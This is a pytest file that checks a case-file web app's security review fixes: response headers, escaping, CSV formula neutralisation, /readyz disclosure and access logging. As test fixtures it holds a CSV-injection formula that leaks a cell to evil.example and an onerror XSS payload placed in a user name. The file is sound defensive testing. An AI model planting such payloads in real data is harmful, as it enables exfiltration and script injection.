"""What every answer tells the browser (CSP, framing, sniffing, referrer, caching), output built
from what users typed (escaped, CSV cells that are not formulas), what /readyz tells a stranger
and which reads reach the access log (security review #5, #6, #10, #14, #17)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest

from adapters.demo import FEATURED_URN
from tests.web.conftest import PASSWORD, USERS, csrf_token
from web import config, create_app

CASE_FILE = f"/schools/{FEATURED_URN}"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&F3,"Helen Marsh")'


def sign_in_as(client, email: str) -> None:
    page = client.get("/sign-in")
    signed_in = client.post("/sign-in", data={
        "email": email, "password": PASSWORD, "csrf_token": csrf_token(page.text)})
    assert signed_in.status_code == 302, signed_in.status_code


def policy(response) -> dict[str, str]:
    """The Content-Security-Policy's directives, by name."""
    directives = [d.strip().split(" ", 1) for d in
                  response.headers["Content-Security-Policy"].split(";")]
    return {d[0]: d[1] if len(d) > 1 else "" for d in directives}


# Headers (#6) ------------------------------------------------------------------------------

@pytest.mark.parametrize("role, path", [
    (None, "/sign-in"),
    ("caseworker", "/"),
    ("caseworker", CASE_FILE),
    ("caseworker", f"{CASE_FILE}/record-visit"),
    ("auditor", f"/audit{CASE_FILE}"),
    ("auditor", f"/audit{CASE_FILE}/history.csv"),
    ("auditor", f"/audit{CASE_FILE}/history.json"),
    ("auditor", f"/audit{CASE_FILE}/printable"),
    ("caseworker", "/reports/categories.csv"),
    ("admin", "/admin/users"),
    ("caseworker", "/account"),
    (None, "/reset-password/not-a-token"),
    (None, "/api/v1/schools"),  # a problem document: 401
    (None, "/api/v1/openapi.json"),
    (None, "/no-such-page"),
])
def test_every_page_export_and_api_answer_carries_the_security_headers(
        client, actions, role, path):
    if role:
        actions.sign_in(role)

    response = client.get(path)

    assert response.status_code in (200, 302, 401, 404), response.status_code
    csp = policy(response)
    assert csp["default-src"] == "'none'"
    assert csp["frame-ancestors"] == "'none'"
    assert csp["form-action"] == "'self'" and csp["base-uri"] == "'none'"
    assert "'unsafe-inline'" not in response.headers["Content-Security-Policy"]
    assert re.fullmatch(r"'self' 'nonce-[A-Za-z0-9_-]{24}'", csp["script-src"])
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    # Check pages of personal data are kept in no cache, the browser's or a proxy's
    assert response.headers["Cache-Control"] == "no-store"
    assert "Strict-Transport-Security" not in response.headers  # plain HTTP in the tests


def test_the_api_problem_documents_carry_the_headers(client):
    response = client.get("/api/v1/schools/123456", headers={"Authorization": "Bearer nope"})

    assert response.status_code == 401
    assert response.mimetype == "application/problem+json"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert policy(response)["frame-ancestors"] == "'none'"


def test_the_one_inline_script_runs_by_this_answers_nonce_and_the_rest_are_files(
        client, actions):
    actions.sign_in("caseworker")

    first, second = client.get(CASE_FILE), client.get(CASE_FILE)

    nonce = policy(first)["script-src"].split("'nonce-")[1].rstrip("'")
    assert nonce != policy(second)["script-src"].split("'nonce-")[1].rstrip("'")
    scripts = re.findall(r"<script\b[^>]*>", first.text)
    inline = [s for s in scripts if "src=" not in s]
    assert inline == [f'<script nonce="{nonce}">']  # GOV.UK's template marks js-enabled
    assert '<script type="module" src="/static/scc.js">' in scripts
    # Check no event handler or style attribute, which the policy would block
    assert not re.search(r"\son[a-z]+=", first.text)
    assert not re.search(r"\sstyle=", first.text)
    with client.get("/static/scc.js") as script:
        assert script.status_code == 200


def test_static_assets_may_be_cached(client):
    with client.get("/static/scc.css") as response:
        assert response.status_code == 200
        assert response.headers.get("Cache-Control") != "no-store"


def test_the_printable_history_keeps_its_own_styles_by_their_hash(client, actions):
    import base64
    import hashlib

    actions.sign_in("auditor")

    response = client.get(f"/audit{CASE_FILE}/printable")

    (css,) = re.findall(r"<style>(.*?)</style>", response.text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
    assert policy(response)["style-src"] == f"'self' 'sha256-{digest}'"
    assert policy(client.get(f"/audit{CASE_FILE}"))["style-src"] == "'self'"


def test_hsts_is_sent_when_the_session_cookie_is_secure(services):
    client = create_app(config.TestConfig(SESSION_COOKIE_SECURE=True),
                        services=services).test_client()

    response = client.get("/sign-in", base_url="https://scc.example")

    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


def test_signing_out_clears_what_the_browser_kept_of_the_site(client, actions):
    actions.sign_in("caseworker")
    client.get(CASE_FILE)

    signed_out = client.post("/sign-out",
                             data={"csrf_token": csrf_token(client.get("/sign-out").text)})

    assert signed_out.status_code == 302
    assert signed_out.headers["Clear-Site-Data"] == '"cache", "storage"'
    assert "You have signed out" in client.get(signed_out.headers["Location"]).text


# Output built from what users typed (#5, #14) ----------------------------------------------

def test_a_users_name_is_escaped_in_the_disable_button_on_the_users_page(
        client, actions, services):
    services.users.add(email="eve@fenmarsh.example",
                       name="Eve <img src=x onerror=alert(document.domain)>",
                       role="caseworker", password=PASSWORD)
    actions.sign_in("admin")

    page = client.get("/admin/users").text

    assert "<img src=x" not in page
    assert ('Disable<span class="govuk-visually-hidden"> '
            "Eve &lt;img src=x onerror=alert(document.domain)&gt;</span>") in page


def test_a_name_that_is_a_formula_is_text_in_the_history_csv(client, services):
    services.case_files.record_visit(FEATURED_URN, kind="monitoring", notes="-1 +2 @3",
                                     effective=date(2026, 11, 20), by=FORMULA)
    sign_in_as(client, USERS["auditor"][0])

    rows = list(csv.DictReader(io.StringIO(client.get(f"/audit{CASE_FILE}/history.csv").text)))

    by = [r["by"] for r in rows if "HYPERLINK" in r["by"]]
    assert by == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows for cell in row.values())


# What a stranger learns from /readyz (#17) --------------------------------------------------

def test_readyz_tells_a_probe_how_far_behind_each_read_model_is_and_no_more(client, actions):
    anonymous = client.get("/readyz").json

    assert (anonymous["status"], anonymous["database"], anonymous["lag"]) == (
        "ready", "reachable", 0)
    assert all(p == {"lag": 0} for p in anonymous["projections"].values())
    # Check a signed-in user sees where each read model stands in the log
    actions.sign_in("caseworker")
    signed_in = client.get("/readyz").json
    assert all(p["position"] > 0 for p in signed_in["projections"].values())


# Reads in the access log (#10) -------------------------------------------------------------

def test_a_form_that_shows_an_entrys_content_is_in_the_access_log(actions, client, services):
    actions.sign_in("caseworker")
    before = len(services.users.access_log(urn=FEATURED_URN))

    page = client.get(f"{CASE_FILE}/amend-entry", query_string={"version": "69"})
    client.get(f"{CASE_FILE}/record-visit")

    assert page.status_code == 200
    log = services.users.access_log(urn=FEATURED_URN)
    assert len(log) == before + 2
    assert {(e["email"], e["view"]) for e in log[:2]} == {
        (USERS["caseworker"][0], "form amend-entry, entry 69"),
        (USERS["caseworker"][0], "form record-visit")}


# What the server offers another site ---------------------------------------------------------

def test_no_other_site_is_allowed_to_read_the_api_and_trace_is_not_answered(client):
    preflight = client.options("/api/v1/schools", headers={
        "Origin": "https://evil.example", "Access-Control-Request-Method": "GET",
        "Access-Control-Request-Headers": "Authorization"})
    traced = client.open("/sign-in", method="TRACE")

    assert not any(h.lower().startswith("access-control-") for h, _ in preflight.headers)
    assert traced.status_code == 405


def test_behind_no_proxy_a_forwarded_address_is_not_believed(services):
    from flask import request

    app = create_app(config.TestConfig(), services=services)
    seen = []
    app.before_request(lambda: seen.append(request.remote_addr))

    app.test_client().get("/healthz", headers={"X-Forwarded-For": "203.0.113.9"},
                          environ_base={"REMOTE_ADDR": "10.0.0.1"})

    assert seen == ["10.0.0.1"]
